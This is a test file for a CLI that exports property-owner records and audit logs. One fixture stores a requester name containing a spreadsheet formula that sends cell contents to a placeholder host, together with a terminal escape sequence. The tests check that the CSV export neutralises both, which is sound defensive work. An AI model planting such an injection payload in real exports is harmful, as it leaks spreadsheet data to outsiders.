import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { main } from '../../../../sync/src/cli/main.js';
import { lotOwnerships, type Owner } from '../../../../sync/src/domain/owner.js';
import { appendAudit } from '../../../../sync/src/store/audit-log.js';
import { openStore } from '../../../../sync/src/store/database.js';
import { replaceLotOwners } from '../../../../sync/src/store/owners.js';

let dir: string;
const saved = { ...process.env };

const owner = (id: string, name: string, gnr: number, kind: Owner['kind'] = 'person'): Owner => ({
  matrikkelPersonId: id,
  kind,
  name,
  organisasjonsnummer: kind === 'organisation' ? '912345674' : null,
  share: { teller: 1, nevner: 2 },
  parcel: { kommunenummer: '3218', gnr, bnr: 1, fnr: 0, snr: 0 },
  role: 'hjemmelshaver',
  registered: true,
});

async function run(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const stdout = vi
    .spyOn(process.stdout, 'write')
    .mockImplementation((chunk) => ((out += String(chunk)), true));
  const stderr = vi
    .spyOn(process.stderr, 'write')
    .mockImplementation((chunk) => ((err += String(chunk)), true));
  try {
    const code = await main(['node', 'tomtejakt', ...args]);
    return { code, out, err };
  } finally {
    stdout.mockRestore();
    stderr.mockRestore();
  }
}

beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'owners-cli-'));
  Object.assign(process.env, {
    STORE_PATH: path.join(dir, 'store.sqlite'),
    DATA_DIR: dir,
    LOG_FORMAT: 'json',
    LOG_LEVEL: 'info',
    AIRTABLE_TOKEN: '',
    AIRTABLE_BASE_ID: '',
  });
  const db = openStore(process.env.STORE_PATH!);
  const at = new Date('2026-09-01T10:00:00Z');
  const lots = [
    {
      tomtId: '3218-20/1-a',
      recordId: 'recAAAAAAAAAAAAA1',
      owners: [owner('71', 'Kari Prøvestad', 20), owner('72', 'Ola Prøvestad', 20)],
    },
    { tomtId: '3218-21/1-b', recordId: 'recAAAAAAAAAAAAA2', owners: [owner('71', 'Kari Prøvestad', 21)] },
    {
      tomtId: '3218-22/1-c',
      recordId: 'recAAAAAAAAAAAAA3',
      owners: [owner('73', 'Prøve Eiendom AS', 22, 'organisation')],
    },
    {
      tomtId: '3218-23/1-d',
      recordId: 'recAAAAAAAAAAAAA4',
      owners: [
        owner('74', 'Arne Skisseberg', 23),
        owner('75', 'Åse Berg', 23),
        owner('76', 'Bergljot Lie', 23),
      ],
    },
  ];
  lots.forEach((lot, i) => {
    const ownerships = lotOwnerships([
      {
        parcel: lot.owners[0]!.parcel,
        matrikkelenhetId: `9${i}`,
        unitType: 'grunneiendom',
        owners: lot.owners,
      },
    ]);
    replaceLotOwners(db, lot, i + 1, at, ownerships);
    appendAudit(db, {
      at: at.toISOString(),
      jobId: i + 1,
      tomtId: lot.tomtId,
      recordId: lot.recordId,
      parcels: `3218-${20 + i}/1`,
      // A requester name as it came, formula and escape sequence included (the 4th lot).
      requestedBy:
        i === 3
          ? '=HYPERLINK("http://x.example/?d="&A1,"Se her")\u001b[2J; @SUM(1)'
          : 'Selger <selger@example.no>',
      purpose: 'Tomteanskaffelse',
      outcome: 'done',
      ownerCount: lot.owners.length,
      detail: null,
    });
  });
  db.close();
});

afterAll(() => {
  for (const key of Object.keys(process.env)) if (!(key in saved)) delete process.env[key];
  Object.assign(process.env, saved);
  rmSync(dir, { recursive: true, force: true });
});

describe('tomtejakt owners', () => {
  it('exports everything held on a person for a subject-access request, names in any order', async () => {
    const { code, out, err } = await run('owners', 'export', '--name', 'prøvestad KARI');
    expect(code).toBe(0);
    const report = JSON.parse(out) as {
      subjects: Array<{ name: string; holdings: Array<{ parcel: string; lot: { tomtId: string } }> }>;
      lookups: Array<{ tomtId: string; requestedBy: string }>;
      retention: string;
    };
    expect(report.subjects).toHaveLength(1);
    expect(report.subjects[0]!.name).toBe('Kari Prøvestad');
    expect(report.subjects[0]!.holdings.map((h) => h.parcel).sort()).toEqual(['3218-20/1', '3218-21/1']);
    expect(report.lookups.map((l) => l.tomtId).sort()).toEqual(['3218-20/1-a', '3218-21/1-b']);
    expect(report.retention).toMatch(/180 days after the lot is marked "Ikke aktuell"/);
    expect(err).toContain('subject-access export');
    expect(err).not.toContain('Kari');
  });

  it('writes a text report to a private file', async () => {
    const file = path.join(dir, 'sar.txt');
    const { code, out } = await run(
      'owners',
      'export',
      '--name',
      'Eiendom',
      '--format',
      'text',
      '--output',
      file,
    );
    expect(code).toBe(0);
    expect(out).toBe('');
    const text = readFileSync(file, 'utf8');
    expect(text).toContain('Prøve Eiendom AS (organisation, orgnr 912345674)');
    expect(text).toContain('by Selger <selger@example.no>  purpose: Tomteanskaffelse  outcome: done');
    expect(statSync(file).mode & 0o777).toBe(0o600);
  });

  it('answers an unknown name with an empty report, and a too-short name with exit code 1', async () => {
    const none = await run('owners', 'export', '--name', 'Nobody Atall');
    expect(none.code).toBe(0);
    expect(JSON.parse(none.out)).toMatchObject({ subjects: [], lookups: [] });
    const bad = await run('owners', 'export', '--name', ' k ');
    expect(bad.code).toBe(1);
    expect(bad.err).toContain('--name: give at least two letters');
  });

  it('prints the audit log as CSV, filtered by lot', async () => {
    const { code, out } = await run('owners', 'audit', '--lot', '3218-21/1-b', '--format', 'csv');
    expect(code).toBe(0);
    const lines = out.trim().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('"3218-21/1-b","3218-21/1","Selger <selger@example.no>"');
  });

  it('matches whole names only, ignoring case and accents', async () => {
    const names = async (query: string) =>
      (
        JSON.parse((await run('owners', 'export', '--name', query)).out) as {
          subjects: Array<{ name: string }>;
        }
      ).subjects
        .map((s) => s.name)
        .sort();
    expect(await names('Berg')).toEqual(['Åse Berg']);
    expect(await names('ase BERG')).toEqual(['Åse Berg']);
    expect(await names('provestad kari')).toEqual(['Kari Prøvestad']);
    expect(await names('Skisse')).toEqual([]);
  });

  it('defuses formulas and strips control characters in the audit CSV', async () => {
    const { code, out } = await run('owners', 'audit', '--lot', '3218-23/1-d', '--format', 'csv');
    expect(code).toBe(0);
    const row = out.trim().split('\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://x.example/?d=""&A1,""Se her"")[2J; @SUM(1)"`);
    expect(row).not.toContain('\u001b');
    expect(row.split('","').some((field) => /^"?[=+\-@]/.test(field))).toBe(false);
  });

  it('runs retention without Airtable (vanished lots only), and has --help', async () => {
    const { code, out } = await run('owners', 'retention', '--dry-run');
    expect(code).toBe(0);
    expect(JSON.parse(out)).toMatchObject({
      markedNow: null,
      erased: [],
      note: expect.stringMatching(/Airtable is not configured/),
    });
    const help = await run('owners', 'export', '--help');
    expect(help.code).toBe(0);
    expect(help.out).toContain('--name <name>');
  });
});
